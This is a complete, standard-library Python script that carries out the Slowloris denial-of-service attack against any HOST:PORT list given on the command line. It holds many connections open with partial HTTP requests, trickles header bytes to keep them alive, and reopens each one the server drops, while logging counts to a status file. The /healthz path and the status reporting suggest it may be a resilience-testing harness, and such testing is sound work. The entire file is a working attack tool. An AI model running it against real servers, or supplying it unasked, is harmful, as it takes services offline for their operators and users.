#!/usr/bin/env python3
"""slowloris.py - hold many HTTP connections open by sending requests slowly.

    slowloris.py HOST:PORT[,HOST:PORT...] CONNECTIONS SECONDS STATUS_FILE

Opens CONNECTIONS connections to each address, sends the start of a request
on each, then one more header byte on each every 5 seconds, as the attack of
that name does; a connection the server cuts is opened again at once. Every
second it writes to STATUS_FILE how many connections are open now, the most
open at once, and how many the server has cut so far. Runs for SECONDS, or
until killed. Standard library only.
"""
import os
import resource
import selectors
import socket
import sys
import time


def main():
    targets = []
    for t in sys.argv[1].split(","):
        host, port = t.rsplit(":", 1)
        targets.append((host, int(port)))
    per_target = int(sys.argv[2])
    seconds = float(sys.argv[3])
    status_file = sys.argv[4]

    need = per_target * len(targets) + 64
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < need:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(need, hard), hard))

    sel = selectors.DefaultSelector()
    conns = {}  # socket -> target
    cut = 0
    most = 0

    def open_one(target):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.connect(target)
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            return False
        conns[s] = (target, False)
        sel.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)
        return True

    def drop(s):
        sel.unregister(s)
        del conns[s]
        s.close()

    for target in targets:
        for _ in range(per_target):
            open_one(target)

    end = time.monotonic() + seconds
    next_trickle = time.monotonic() + 5
    next_status = 0.0
    while time.monotonic() < end:
        for key, events in sel.select(timeout=0.2):
            s = key.fileobj
            target, started = conns[s]
            if events & selectors.EVENT_READ:
                # The server answered or closed: either way it is not held.
                try:
                    data = s.recv(4096)
                except OSError:
                    data = b""
                if not data:
                    cut += 1
                    drop(s)
                    open_one(target)
                    continue
            if events & selectors.EVENT_WRITE and not started:
                try:
                    s.send(b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ")
                    conns[s] = (target, True)
                    sel.modify(s, selectors.EVENT_READ)
                except OSError:
                    cut += 1
                    drop(s)
                    open_one(target)
        now = time.monotonic()
        if now >= next_trickle:
            next_trickle = now + 5
            for s, (target, started) in list(conns.items()):
                if started:
                    try:
                        s.send(b"a")
                    except OSError:
                        cut += 1
                        drop(s)
                        open_one(target)
        held = sum(1 for _, st in conns.values() if st)
        most = max(most, held)
        if now >= next_status:
            next_status = now + 1
            with open(status_file + ".tmp", "w") as f:
                f.write("open %d\nmost %d\ncut %d\n" % (held, most, cut))
            os.replace(status_file + ".tmp", status_file)


if __name__ == "__main__":
    main()
